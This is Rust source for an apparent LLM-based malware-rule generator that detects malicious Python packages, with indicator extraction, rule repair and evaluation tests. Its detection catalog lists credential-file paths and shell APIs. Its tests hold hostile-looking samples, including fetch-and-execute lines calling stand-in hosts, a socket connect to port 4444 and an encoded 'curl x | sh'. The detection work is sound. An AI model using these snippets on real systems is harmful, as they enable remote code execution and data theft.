    pub fn label(&self) -> &'static str {
        match self {
            IndicatorKind::Ioc => "IOC",
            IndicatorKind::File => "File Operation",
            IndicatorKind::Network => "Network Activity",
            IndicatorKind::Encryption => "Encryption Function",
            IndicatorKind::Privilege => "Privilege Operation",
            IndicatorKind::AntiDebug => "Anti-debug/Anti-analysis",
            IndicatorKind::Metadata => "Metadata",
        }
    }
}

/// One extracted indicator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Indicator {
    /// The literal string (or regex when `is_regex`).
    pub text: String,
    /// Audit category.
    pub kind: IndicatorKind,
    /// Whether `text` is a regular expression rather than a literal.
    pub is_regex: bool,
}

/// The model's analysis artifact (the `*.txt` output of §IV-A).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Analysis {
    /// Extracted indicators, strongest first.
    pub indicators: Vec<Indicator>,
    /// One-line behavior summary.
    pub summary: String,
}

impl Analysis {
    /// Renders the analysis as the text block embedded in LLM replies.
    ///
    /// Indicator text is newline-escaped so the line-oriented format
    /// round-trips indicators that contain control characters.
    pub fn to_text(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!("summary: {}\n", self.summary));
        for ind in &self.indicators {
            out.push_str(&format!(
                "indicator [{}]{}: {}\n",
                ind.kind.label(),
                if ind.is_regex { " (regex)" } else { "" },
                ind.text
                    .replace('\\', "\\\\")
                    .replace('\n', "\\n")
                    .replace('\t', "\\t"),
            ));
        }
        out
    }

    /// Parses the rendered form back (used by refine/fix handlers that
    /// receive the analysis as prompt input).
    pub fn from_text(text: &str) -> Analysis {
        let mut analysis = Analysis::default();
        for line in text.lines() {
            if let Some(rest) = line.strip_prefix("summary: ") {
                analysis.summary = rest.to_owned();
            } else if let Some(rest) = line.strip_prefix("indicator [") {
                let Some((label, value)) = rest
                    .split_once("]: ")
                    .or_else(|| rest.split_once("] (regex): "))
                else {
                    continue;
                };
                let is_regex = rest.contains("] (regex): ");
                let label = label.trim_end_matches(" (regex)");
                let kind = match label {
                    "IOC" => IndicatorKind::Ioc,
                    "File Operation" => IndicatorKind::File,
                    "Network Activity" => IndicatorKind::Network,
                    "Encryption Function" => IndicatorKind::Encryption,
                    "Privilege Operation" => IndicatorKind::Privilege,
                    "Anti-debug/Anti-analysis" => IndicatorKind::AntiDebug,
                    _ => IndicatorKind::Metadata,
                };
                let mut text = String::with_capacity(value.len());
                let mut chars = value.chars();
                while let Some(c) = chars.next() {
                    if c == '\\' {
                        match chars.next() {
                            Some('n') => text.push('\n'),
                            Some('t') => text.push('\t'),
                            Some('\\') => text.push('\\'),
                            Some(other) => {
                                text.push('\\');
                                text.push(other);
                            }
                            None => text.push('\\'),
                        }
                    } else {
                        text.push(c);
                    }
                }
                analysis.indicators.push(Indicator {
                    text,
                    kind,
                    is_regex,
                });
            }
        }
        analysis
    }
}

/// Suspicious API catalog: (needle, kind). Mirrors Table II's audit rows.
const API_CATALOG: &[(&str, IndicatorKind)] = &[
    // Network / C2
    ("requests.post", IndicatorKind::Network),
    ("requests.get", IndicatorKind::Network),
    ("urllib.request.urlretrieve", IndicatorKind::Network),
    ("urllib.request.urlopen", IndicatorKind::Network),
    ("socket.socket", IndicatorKind::Network),
    ("socket.gethostbyname", IndicatorKind::Network),
    (".connect(", IndicatorKind::Network),
    (".bind(", IndicatorKind::Network),
    // Shell / process (paper folds these into privilege/file rows)
    ("os.system", IndicatorKind::Privilege),
    ("subprocess.Popen", IndicatorKind::Privilege),
    ("subprocess.call", IndicatorKind::Privilege),
    ("subprocess.run", IndicatorKind::Privilege),
    ("subprocess.check_output", IndicatorKind::Privilege),
    ("os.popen", IndicatorKind::Privilege),
    ("os.setuid", IndicatorKind::Privilege),
    ("os.setgid", IndicatorKind::Privilege),
    ("os.kill", IndicatorKind::Privilege),
    ("CreateThread", IndicatorKind::Privilege),
    ("VirtualAlloc", IndicatorKind::Privilege),
    ("ctypes.windll", IndicatorKind::Privilege),
    // File operations
    // Setup/install-time hooks (the paper's Setup Code category)
    ("setuptools.command.install", IndicatorKind::File),
    ("install.run(self)", IndicatorKind::File),
    ("egg_info", IndicatorKind::File),
    ("atexit.register", IndicatorKind::File),
    ("os.chmod", IndicatorKind::File),
    ("os.remove", IndicatorKind::File),
    ("os.walk", IndicatorKind::File),
    ("open('/etc/hosts'", IndicatorKind::File),
    ("crontab", IndicatorKind::File),
    (".bashrc", IndicatorKind::File),
    ("site.getsitepackages", IndicatorKind::File),
    ("pip.conf", IndicatorKind::File),
    (".aws/credentials", IndicatorKind::File),
    (".ssh/id_rsa", IndicatorKind::File),
    (".pypirc", IndicatorKind::File),
    (".npmrc", IndicatorKind::File),
    ("leveldb", IndicatorKind::File),
    // Encryption / obfuscation
    ("base64.b64decode", IndicatorKind::Encryption),
    ("Fernet", IndicatorKind::Encryption),
    ("exec(compile", IndicatorKind::Encryption),
    ("exec(", IndicatorKind::Encryption),
    ("eval(", IndicatorKind::Encryption),
    // Anti-debug / anti-analysis
    ("sys.gettrace", IndicatorKind::AntiDebug),
    ("uuid.getnode", IndicatorKind::AntiDebug),
    ("os._exit(0)", IndicatorKind::AntiDebug),
    // Environment / harvesting (network row in Table II terms)
    ("os.environ", IndicatorKind::Network),
    ("getpass.getuser", IndicatorKind::Network),
    ("platform.platform", IndicatorKind::Network),
    ("boto3", IndicatorKind::Network),
    ("ImageGrab.grab", IndicatorKind::Network),
];

/// Analyzes a code payload into Table II indicators.
///
/// IOC extraction uses regexes for URLs, dotted-quad IPs, webhook paths
/// and long base64 blobs; API extraction is substring-based over the
/// catalog.
pub fn analyze_code(code: &str) -> Analysis {
    let mut indicators = Vec::new();
    let bytes = code.as_bytes();

    // IOC regexes.
    let url_re = Regex::new(r"https?://[\w.\-/]{6,80}").expect("static pattern");
    for m in url_re.find_all(bytes).into_iter().take(8) {
        let url = String::from_utf8_lossy(&bytes[m.start..m.end]).into_owned();
        // Benign well-known hosts are not IOCs.
        if [
            "readthedocs.io",
            "github.com",
            "githubusercontent",
            "python.org",
            "example.org",
        ]
        .iter()
        .any(|ok| url.contains(ok))
        {
            continue;
        }
        indicators.push(Indicator {
            text: url,
            kind: IndicatorKind::Ioc,
            is_regex: false,
        });
    }
    let ip_re = Regex::new(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}").expect("static pattern");
    for m in ip_re.find_all(bytes).into_iter().take(4) {
        let ip = String::from_utf8_lossy(&bytes[m.start..m.end]).into_owned();
        if ip.starts_with("127.") || ip == "0.0.0.0" {
            continue;
        }
        indicators.push(Indicator {
            text: ip,
            kind: IndicatorKind::Ioc,
            is_regex: false,
        });
    }
    // Long base64 blob — keep as a *regex* indicator (the Table I rule).
    let b64_re = Regex::new(r"[A-Za-z0-9+/]{40,}={0,2}").expect("static pattern");
    if b64_re.is_match(bytes) {
        indicators.push(Indicator {
            text: r"([A-Za-z0-9+/]{4}){10,}={0,2}".to_owned(),
            kind: IndicatorKind::Encryption,
            is_regex: true,
        });
    }

    // API catalog pass.
    for (needle, kind) in API_CATALOG {
        if code.contains(needle) {
            indicators.push(Indicator {
                text: (*needle).to_owned(),
                kind: *kind,
                is_regex: false,
            });
        }
    }

    // Summary from the dominant category.
    let summary = if indicators.is_empty() {
        "no malicious indicators identified".to_owned()
    } else {
        // Fixed kind order for a deterministic tie-break.
        const ORDER: [IndicatorKind; 7] = [
            IndicatorKind::Ioc,
            IndicatorKind::Network,
            IndicatorKind::Privilege,
            IndicatorKind::Encryption,
            IndicatorKind::File,
            IndicatorKind::AntiDebug,
            IndicatorKind::Metadata,
        ];
        let dominant = ORDER
            .iter()
            .max_by_key(|k| indicators.iter().filter(|i| i.kind == **k).count())
            .expect("nonempty order")
            .label();
        format!(
            "suspicious {} behavior with {} indicators",
            dominant,
            indicators.len()
        )
    };
    Analysis {
        indicators,
        summary,
    }
}

/// Audits package-metadata JSON per Table II's metadata rows.
///
/// `metadata_json` is the registry API response shape produced by
/// [`oss_registry::render_registry_json`].
pub fn analyze_metadata(metadata_json: &str) -> Analysis {
    let mut indicators = Vec::new();
    let Ok(meta) = oss_registry::parse_registry_json(metadata_json) else {
        return Analysis {
            indicators,
            summary: "unparsable metadata".to_owned(),
        };
    };
    if meta.description.is_empty() && meta.summary.is_empty() {
        // PKG-INFO renders an empty summary as "Summary: " immediately
        // followed by the Home-page header; anchoring on both lines keeps
        // the string from ever matching a populated summary.
        indicators.push(Indicator {
            text: "Summary: \nHome-page:".to_owned(),
            kind: IndicatorKind::Metadata,
            is_regex: false,
        });
    }
    if meta.version == "0.0" || meta.version == "0.0.0" {
        indicators.push(Indicator {
            text: format!("Version: {}", meta.version),
            kind: IndicatorKind::Metadata,
            is_regex: false,
        });
    }
    if let Some(victim) = oss_registry::is_typosquat(&meta.name) {
        indicators.push(Indicator {
            text: format!("Name: {}", meta.name),
            kind: IndicatorKind::Metadata,
            is_regex: false,
        });
        let _ = victim;
    }
    for dep in &meta.dependencies {
        let known = oss_registry::POPULAR_PACKAGES.contains(&dep.as_str())
            || ["setuptools", "wheel", "pip"].contains(&dep.as_str());
        if !known && dep.len() > 6 {
            indicators.push(Indicator {
                text: format!("Requires-Dist: {dep}"),
                kind: IndicatorKind::Metadata,
                is_regex: false,
            });
        }
    }
    let summary = if indicators.is_empty() {
        "metadata looks ordinary".to_owned()
    } else {
        format!("{} metadata red flags", indicators.len())
    };
    Analysis {
        indicators,
        summary,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_network_and_shell_apis() {
        let a = analyze_code("import os, requests\ncmd = requests.get('https://zorbex.xyz/t').text\nos.system(cmd)\n");
        let texts: Vec<&str> = a.indicators.iter().map(|i| i.text.as_str()).collect();
        assert!(texts.contains(&"requests.get"));
        assert!(texts.contains(&"os.system"));
        assert!(texts.iter().any(|t| t.contains("zorbex.xyz")));
    }

    #[test]
    fn benign_hosts_not_iocs() {
        let a = analyze_code("requests.get('https://api.github.com/repos/x/releases')\n");
        assert!(a.indicators.iter().all(|i| i.kind != IndicatorKind::Ioc));
    }

    #[test]
    fn extracts_ip_iocs_but_not_localhost() {
        let a = analyze_code("s.connect(('185.62.190.159', 4444)); t.connect(('127.0.0.1', 80))\n");
        let iocs: Vec<&Indicator> = a
            .indicators
            .iter()
            .filter(|i| i.kind == IndicatorKind::Ioc)
            .collect();
        assert_eq!(iocs.len(), 1);
        assert_eq!(iocs[0].text, "185.62.190.159");
    }

    #[test]
    fn base64_blob_becomes_regex_indicator() {
        let payload =
            digest::base64::encode(b"import os; os.system('curl x | sh'); print('padding')");
        let a = analyze_code(&format!("exec(base64.b64decode('{payload}'))\n"));
        assert!(a.indicators.iter().any(|i| i.is_regex));
        assert!(a.indicators.iter().any(|i| i.text == "base64.b64decode"));
    }

    #[test]
    fn clean_code_has_no_indicators() {
        let a = analyze_code("def add(a, b):\n    return a + b\n");
        assert!(a.indicators.is_empty());
        assert!(a.summary.contains("no malicious"));
    }

    #[test]
    fn analysis_text_roundtrip() {
        let a = analyze_code("os.system('x'); requests.post('https://bexlum.top/c', data=d)\n");
        let text = a.to_text();
        let back = Analysis::from_text(&text);
        assert_eq!(back.summary, a.summary);
        assert_eq!(back.indicators.len(), a.indicators.len());
        for (x, y) in back.indicators.iter().zip(&a.indicators) {
            assert_eq!(x.text, y.text);
            assert_eq!(x.kind, y.kind);
        }
    }

    #[test]
    fn metadata_audit_flags_zero_version_and_empty_description() {
        let meta = oss_registry::PackageMetadata::new("sometool", "0.0.0");
        let json = oss_registry::render_registry_json(&meta);
        let a = analyze_metadata(&json);
        assert!(a.indicators.iter().any(|i| i.text.contains("0.0.0")));
        assert!(a.indicators.iter().any(|i| i.text.starts_with("Summary")));
    }

    #[test]
    fn metadata_audit_flags_typosquat() {
        let meta = oss_registry::PackageMetadata::new("reqests", "1.2.0");
        let json = oss_registry::render_registry_json(&meta);
        let a = analyze_metadata(&json);
        assert!(a.indicators.iter().any(|i| i.text.contains("reqests")));
    }

    #[test]
    fn metadata_audit_passes_clean_metadata() {
        let mut meta = oss_registry::PackageMetadata::new("goodlib", "2.3.1");
        meta.summary = "a library".into();
        meta.description = "docs".into();
        let json = oss_registry::render_registry_json(&meta);
        let a = analyze_metadata(&json);
        assert!(a.indicators.is_empty());
    }
}

//! The fix handler (Table V): repair a rule given compiler errors.
//!
//! A successful repair roll rebuilds a clean rule from the salvageable
//! parts of the broken one (what a competent model does with a compiler
//! message); a failed roll returns the input unchanged, which is what
//! drives the agent's bounded retry loop (§IV-C, up to 5 attempts).

use rand::rngs::StdRng;
use rand::Rng;

use crate::analyzer::Analysis;
use crate::generate::{extract_rule_text, extract_semgrep_patterns, extract_yara_strings};
use crate::profile::ModelProfile;
use crate::prompt::RuleFormat;

/// Fix handler entry point. `input` carries the analysis text followed by
/// the broken rule (the prompt's two user inputs); `error` is the agent's
/// observation.
pub fn fix(
    profile: &ModelProfile,
    rng: &mut StdRng,
    format: RuleFormat,
    input: &str,
    error: &str,
) -> String {
    let rule = extract_rule_text(input, format);
    if !rng.gen_bool(profile.fix_skill) {
        // The model failed to act on the error this round.
        return format!("=== RULE ===\n{rule}");
    }
    let fixed = match format {
        RuleFormat::Yara => rebuild_yara(input, &rule, error),
        RuleFormat::Semgrep => rebuild_semgrep(input, &rule),
    };
    format!("=== RULE ===\n{fixed}")
}

fn rebuild_yara(input: &str, rule: &str, error: &str) -> String {
    let analysis = Analysis::from_text(input);
    // Strip BOM first (Table V instruction 6).
    let rule = rule.trim_start_matches('\u{FEFF}');
    let mut strings = extract_yara_strings(rule);
    // Broken regex mentioned in the error: drop that string rather than
    // guess at intent.
    if error.contains("invalid regular expression") {
        strings.retain(|(_, is_regex)| !is_regex);
    }
    if strings.is_empty() {
        for ind in &analysis.indicators {
            strings.push((ind.text.clone(), ind.is_regex));
        }
    }
    strings.dedup();
    let name = rule
        .split_whitespace()
        .nth(1)
        .map(|n| n.trim_matches('{').to_owned())
        .filter(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or_else(|| format!("repaired_{:08x}", digest::fnv1a(rule.as_bytes()) as u32));
    let description = if analysis.summary.is_empty() {
        "repaired rule".to_owned()
    } else {
        analysis.summary.replace('"', "'")
    };
    let mut out = format!(
        "rule {name} {{\n    meta:\n        description = \"{description}\"\n        author = \"RuleLLM\"\n    strings:\n"
    );
    if strings.is_empty() {
        out.push_str("        $s0 = \"__unrecoverable__\"\n");
    } else {
        for (i, (text, is_regex)) in strings.iter().enumerate() {
            if *is_regex {
                out.push_str(&format!("        $s{i} = /{}/\n", text.replace('/', "\\/")));
            } else {
                out.push_str(&format!(
                    "        $s{i} = \"{}\"\n",
                    text.replace('\\', "\\\\")
                        .replace('"', "\\\"")
                        .replace('\n', "\\n")
                        .replace('\t', "\\t")
                ));
            }
        }
    }
    let condition = match strings.len() {
        0 | 1 => "any of them",
        2 => "all of them",
        _ => "2 of them",
    };
    out.push_str(&format!("    condition:\n        {condition}\n}}\n"));
    out
}

fn rebuild_semgrep(input: &str, rule: &str) -> String {
    let analysis = Analysis::from_text(input);
    let mut patterns = extract_semgrep_patterns(rule);
    patterns.retain(|p| p != "__no_pattern_extracted__(...)");
    patterns.dedup();
    let id = rule
        .lines()
        .find_map(|l| l.trim().trim_start_matches("- ").strip_prefix("id:"))
        .map(|s| s.trim().to_owned())
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| format!("repaired-{:08x}", digest::fnv1a(rule.as_bytes()) as u32));
    let message = if analysis.summary.is_empty() {
        "repaired rule".to_owned()
    } else {
        analysis.summary.replace('"', "'")
    };
    let mut out = format!(
        "rules:\n  - id: {id}\n    languages: [python]\n    message: \"{message}\"\n    severity: WARNING\n"
    );
    match patterns.len() {
        0 => out.push_str("    pattern: __unrecoverable__(...)\n"),
        1 => out.push_str(&format!("    pattern: {}\n", patterns[0])),
        _ => {
            out.push_str("    pattern-either:\n");
            for p in &patterns {
                out.push_str(&format!("      - pattern: {p}\n"));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generate::maybe_corrupt;
    use crate::split_reply;
    use rand::SeedableRng;

    fn sure_fixer() -> ModelProfile {
        ModelProfile {
            name: "test-fixer",
            context_tokens: 32_000,
            feature_miss_rate: 0.0,
            overgeneral_rate: 0.0,
            hallucination_rate: 0.0,
            syntax_error_rate: 1.0,
            fix_skill: 1.0,
            merge_skill: 1.0,
        }
    }

    const GOOD_RULE: &str = "rule beacon_rat {\n    meta:\n        description = \"c2 beacon\"\n        author = \"RuleLLM\"\n    strings:\n        $s0 = \"requests.get\"\n        $s1 = \"os.system\"\n        $s2 = \"https://zorbex.xyz/tasks\"\n    condition:\n        2 of them\n}\n";

    #[test]
    fn repairs_every_yara_corruption_mode() {
        let profile = sure_fixer();
        let mut rng = StdRng::seed_from_u64(1);
        let analysis = "summary: c2 beacon\nindicator [Network Activity]: requests.get\n";
        for trial in 0..24 {
            let broken = maybe_corrupt(&profile, &mut rng, RuleFormat::Yara, GOOD_RULE.to_owned());
            let Err(err) = yara_engine::compile(&broken) else {
                continue; // some corruptions of some rules still compile
            };
            let reply = fix(
                &profile,
                &mut rng,
                RuleFormat::Yara,
                &format!("{analysis}\n{broken}"),
                &err.to_string(),
            );
            let (_, repaired) = split_reply(&reply);
            assert!(
                yara_engine::compile(&repaired).is_ok(),
                "trial {trial}: error {err}\nbroken:\n{broken}\nrepaired:\n{repaired}"
            );
        }
    }

    #[test]
    fn repairs_semgrep_corruption_modes() {
        let profile = sure_fixer();
        let mut rng = StdRng::seed_from_u64(2);
        let good = "rules:\n  - id: c2-beacon\n    languages: [python]\n    message: \"beacon\"\n    severity: WARNING\n    pattern: os.system(...)\n";
        let analysis = "summary: c2 beacon\n";
        for trial in 0..20 {
            let broken = maybe_corrupt(&profile, &mut rng, RuleFormat::Semgrep, good.to_owned());
            let Err(err) = semgrep_engine::compile(&broken) else {
                continue;
            };
            let reply = fix(
                &profile,
                &mut rng,
                RuleFormat::Semgrep,
                &format!("{analysis}\n{broken}"),
                &err.to_string(),
            );
            let (_, repaired) = split_reply(&reply);
            assert!(
                semgrep_engine::compile(&repaired).is_ok(),
                "trial {trial}: error {err}\nbroken:\n{broken}\nrepaired:\n{repaired}"
            );
        }
    }

    #[test]
    fn zero_skill_returns_rule_unchanged() {
        let mut profile = sure_fixer();
        profile.fix_skill = 0.0;
        let mut rng = StdRng::seed_from_u64(3);
        let broken = "rule x { strings: $a = \"unclosed condition: $a }";
        let reply = fix(&profile, &mut rng, RuleFormat::Yara, broken, "line 1: boom");
        let (_, out) = split_reply(&reply);
        assert_eq!(out, broken);
    }

    #[test]
    fn repaired_rule_keeps_original_name_when_parseable() {
        let profile = sure_fixer();
        let mut rng = StdRng::seed_from_u64(4);
        let broken = GOOD_RULE.replace("condition:", "condition:\n        $nope and");
        let reply = fix(
            &profile,
            &mut rng,
            RuleFormat::Yara,
            &broken,
            "line 1: undefined string \"$nope\"",
        );
        let (_, repaired) = split_reply(&reply);
        assert!(repaired.contains("rule beacon_rat"), "{repaired}");
    }

    #[test]
    fn bom_stripped() {
        let profile = sure_fixer();
        let mut rng = StdRng::seed_from_u64(5);
        let broken = format!("\u{FEFF}{GOOD_RULE}");
        let reply = fix(
            &profile,
            &mut rng,
            RuleFormat::Yara,
            &broken,
            "line 1: file encoding must be UTF-8 without BOM",
        );
        let (_, repaired) = split_reply(&reply);
        assert!(yara_engine::compile(&repaired).is_ok(), "{repaired}");
    }
}

//! Engine-equivalence proof over the YARA test corpus (ISSUE 3).
//!
//! The single-pass Pike VM replaced the seed's restart-per-offset regex
//! scan; these tests pin the two engines to byte-identical verdicts on
//! exactly the inputs the system actually scans: every regex string of
//! every rule the RuleLLM pipeline generates, run over every package
//! buffer of the evaluation corpus, plus the regex-bearing rules used
//! throughout the repo's test suites.

use eval::experiments::ExperimentContext;
use textmatch::{DfaOutcome, ReferenceRegex, Regex};

/// Every regex-string pattern that appears in rules across the repo's
/// test corpora (engine unit tests, scanhub suites, the paper's Table I
/// rule and the bench ruleset).
const CORPUS_PATTERNS: &[&str] = &[
    r"([A-Za-z0-9+\/]{4}){3,}(==|=)?",
    r"([A-Za-z0-9+\/]{4}){10,}={0,2}",
    r"[A-Za-z0-9+\/]{16,}",
    r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}",
    r"https?:\/\/[\w.\-\/]+",
    r"https?:\/\/[\w.\-\/]{6,80}",
    r"select .* from",
    r"os\.system",
    r"exec\(",
    r"\beval\b",
];

fn assert_equivalent(pike: &Regex, data: &[u8], what: &str) {
    let reference = ReferenceRegex::from_regex(pike);
    // The public entry points are tiered (lazy DFA gate in front of the
    // Pike VM on large haystacks); pin them to the pure Pike VM and the
    // reference engine at once, so all three agree byte-for-byte.
    assert_eq!(
        pike.find_all(data),
        reference.find_all(data),
        "find_all diverged for {what} pattern {:?}",
        pike.pattern()
    );
    assert_eq!(
        pike.find_all(data),
        pike.find_all_pike(data),
        "DFA-gated find_all diverged from the Pike VM for {what} pattern {:?}",
        pike.pattern()
    );
    assert_eq!(
        pike.is_match(data),
        reference.is_match(data),
        "is_match diverged for {what} pattern {:?}",
        pike.pattern()
    );
    assert_eq!(
        pike.is_match(data),
        pike.is_match_pike(data),
        "DFA-gated is_match diverged from the Pike VM for {what} pattern {:?}",
        pike.pattern()
    );
    // The raw DFA (no haystack-size gate) must agree on existence
    // whenever the pattern is DFA-eligible.
    if let Some(outcome) = pike.dfa_earliest_end(data, 0) {
        let exists = pike.is_match_pike(data);
        match outcome {
            DfaOutcome::NoMatch => assert!(
                !exists,
                "DFA said no-match but Pike matched {what} pattern {:?}",
                pike.pattern()
            ),
            DfaOutcome::MatchEnd(end) => {
                assert!(
                    exists,
                    "DFA over-matched {what} pattern {:?}",
                    pike.pattern()
                );
                assert!(end <= data.len());
            }
            DfaOutcome::GaveUp => {}
        }
    }
}

#[test]
fn pipeline_rule_regexes_match_identically_on_full_corpus() {
    let ctx = ExperimentContext::new(&corpus::CorpusConfig::tiny());
    let output = eval::experiments::run_rulellm(&ctx.dataset, rulellm::PipelineConfig::full());
    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
    let regexes: Vec<&Regex> = compiled
        .rules
        .iter()
        .flat_map(|cr| cr.regexes.iter().flatten())
        .collect();
    let mut checked = 0usize;
    for re in &regexes {
        for target in &ctx.targets {
            assert_equivalent(re, &target.request.concat_buffer(), "pipeline");
            checked += 1;
        }
    }
    // The corpus must actually exercise the engines; an empty product
    // would make this test vacuous.
    assert!(!ctx.targets.is_empty(), "corpus produced no scan targets");
    eprintln!(
        "differential-checked {} pipeline regexes over {} buffers ({checked} pairs)",
        regexes.len(),
        ctx.targets.len()
    );
}

#[test]
fn repo_test_corpus_regexes_match_identically() {
    let ctx = ExperimentContext::new(&corpus::CorpusConfig::tiny());
    for pattern in CORPUS_PATTERNS {
        let pike = Regex::new(pattern).expect("corpus pattern compiles");
        let nocase = Regex::new_nocase(pattern).expect("corpus pattern compiles nocase");
        for target in &ctx.targets {
            let buffer = target.request.concat_buffer();
            assert_equivalent(&pike, &buffer, "corpus");
            assert_equivalent(&nocase, &buffer, "corpus-nocase");
        }
        // Edge haystacks the corpus may not produce.
        for hay in [
            &b""[..],
            b"=",
            b"==",
            b"\x00\x01\xff",
            b"aW1wb3J0IG9zO2V4ZWMoKQ==",
        ] {
            assert_equivalent(&pike, hay, "edge");
        }
    }
}

#[test]
fn scanner_verdicts_unchanged_by_engine_swap() {
    // Whole-scanner sanity: scanning the corpus with regex-bearing rules
    // produces verdicts consistent with reference-engine string matching.
    let rules = r#"
rule ip { strings: $re = /\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/ condition: $re }
rule b64 { strings: $re = /([A-Za-z0-9+\/]{4}){3,}(==|=)?/ condition: $re }
rule url { strings: $re = /https?:\/\/[\w.\-\/]{6,}/ condition: $re }
"#;
    let compiled = yara_engine::compile(rules).expect("rules compile");
    let scanner = yara_engine::Scanner::new(&compiled);
    let ctx = ExperimentContext::new(&corpus::CorpusConfig::tiny());
    for target in &ctx.targets {
        let buffer = target.request.concat_buffer();
        let hits = scanner.scan(&buffer);
        for cr in &compiled.rules {
            let re = cr.regexes[0].as_ref().expect("regex string");
            let expected = ReferenceRegex::from_regex(re).is_match(&buffer);
            let got = hits.iter().any(|h| h.rule == cr.rule.name);
            assert_eq!(
                got, expected,
                "scanner verdict for rule {} diverged from reference engine",
                cr.rule.name
            );
        }
    }
}

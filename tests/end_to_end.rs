//! Integration tests spanning the whole stack: corpus generation →
//! RuleLLM pipeline → rule compilation → package-level detection.

use corpus::{CorpusConfig, Dataset};
use eval::experiments::{self, compile_output, confusion_at, run_rulellm, ExperimentContext};
use eval::scan::scan_all;
use rulellm::PipelineConfig;

#[test]
fn full_stack_detection_beats_baselines() {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let (rows, _) = experiments::table8(&ctx);
    let rulellm = rows.iter().find(|r| r.name == "RuleLLM").expect("row");
    for other in rows.iter().filter(|r| r.name != "RuleLLM") {
        assert!(
            rulellm.confusion.f1() > other.confusion.f1(),
            "RuleLLM F1 {:.3} must beat {} F1 {:.3}",
            rulellm.confusion.f1(),
            other.name,
            other.confusion.f1()
        );
    }
    assert!(rulellm.confusion.recall() >= 0.8, "recall too low");
    assert!(rulellm.confusion.precision() >= 0.8, "precision too low");
}

#[test]
fn every_generated_rule_deploys_without_errors() {
    // The paper's headline operational claim: generated rules are fully
    // compatible and deploy without errors (§I).
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let output = run_rulellm(&dataset, PipelineConfig::full());
    assert!(output.yara.len() + output.semgrep.len() > 5);
    // Whole YARA set compiles as one file.
    yara_engine::compile(&output.yara_ruleset()).expect("yara set deploys");
    for r in &output.semgrep {
        semgrep_engine::compile(&r.text).expect("semgrep rule deploys");
    }
}

#[test]
fn pipeline_is_deterministic_end_to_end() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let a = run_rulellm(&dataset, PipelineConfig::full());
    let b = run_rulellm(&dataset, PipelineConfig::full());
    assert_eq!(a.yara.len(), b.yara.len());
    assert_eq!(a.semgrep.len(), b.semgrep.len());
    for (x, y) in a.yara.iter().zip(&b.yara) {
        assert_eq!(x.text, y.text);
    }
    assert_eq!(a.stats, b.stats);
}

#[test]
fn ablation_recall_improves_with_components() {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let rows = experiments::table10(&ctx);
    let alone = &rows[0];
    let full = &rows[3];
    assert!(
        full.confusion.recall() > alone.confusion.recall(),
        "Table X direction: full {:.3} vs alone {:.3}",
        full.confusion.recall(),
        alone.confusion.recall()
    );
    assert!(full.confusion.f1() > alone.confusion.f1());
}

#[test]
fn llm_sweep_keeps_gpt4o_on_top() {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let rows = experiments::table9(&ctx);
    assert_eq!(rows.len(), 4);
    let f1 = |name: &str| {
        rows.iter()
            .find(|r| r.name.contains(name))
            .unwrap_or_else(|| panic!("row {name}"))
            .confusion
            .f1()
    };
    // Table IX ordering: GPT-4o beats the weakest model. (The full
    // four-way ordering needs the larger corpus the bench harness uses;
    // at tiny scale only the biggest gap is reliable.)
    assert!(f1("GPT-4o") >= f1("GPT-3.5") - 1e-9);
    for row in &rows {
        assert!(row.confusion.f1() > 0.5, "{} collapsed", row.name);
    }
}

#[test]
fn matched_rule_threshold_trades_recall_for_precision() {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    let matches = scan_all(Some(&yara), Some(&semgrep), &ctx.targets);
    let c1 = confusion_at(&matches, &ctx.targets, 1);
    let c3 = confusion_at(&matches, &ctx.targets, 3);
    assert!(c3.recall() <= c1.recall() + 1e-9);
    assert!(c3.precision() >= c1.precision() - 1e-9);
}

#[test]
fn taxonomy_covers_generated_rules_non_exclusively() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let output = run_rulellm(&dataset, PipelineConfig::full());
    let rows = experiments::table12(&output);
    let labeled: usize = rows.iter().map(|(_, c)| c).sum();
    // Non-exclusive categories: total labels >= total rules (the paper's
    // 1,217 labels over 452 rules).
    assert!(labeled >= output.yara.len() + output.semgrep.len());
    // The overlap matrix diagonal sums to at least the label count per
    // category.
    let m = experiments::fig11(&output);
    let diag: usize = (0..m.len()).map(|i| m[i][i]).sum();
    assert!(diag >= labeled / 2);
}

#[test]
fn generated_rules_generalize_to_duplicates_by_construction() {
    // Duplicates share signatures with uniques, so scanning the full
    // (non-deduplicated) malware list must flag at least as large a
    // fraction as the unique list.
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let output = run_rulellm(&dataset, PipelineConfig::full());
    let (yara, _) = compile_output(&output);
    let scanner = yara_engine::Scanner::new(&yara);
    let mut unique_hits = 0usize;
    let unique = dataset.unique_malware();
    for m in &unique {
        let t = eval::scan::target_from_package(&m.package, 0, true, None);
        if scanner.is_match(&t.request.concat_buffer()) {
            unique_hits += 1;
        }
    }
    let mut all_hits = 0usize;
    for m in &dataset.malware {
        let t = eval::scan::target_from_package(&m.package, 0, true, None);
        if scanner.is_match(&t.request.concat_buffer()) {
            all_hits += 1;
        }
    }
    let unique_rate = unique_hits as f64 / unique.len() as f64;
    let all_rate = all_hits as f64 / dataset.malware.len() as f64;
    assert!(
        all_rate >= unique_rate - 0.05,
        "{all_rate} vs {unique_rate}"
    );
}

//! Integration tests for substrate interoperability: the package model,
//! extraction, LLM simulation, and both rule engines working as one
//! system.

use corpus::{generate_malware_package, FAMILIES};
use llm_sim::{LlmSim, ModelProfile, Prompt, RuleFormat};
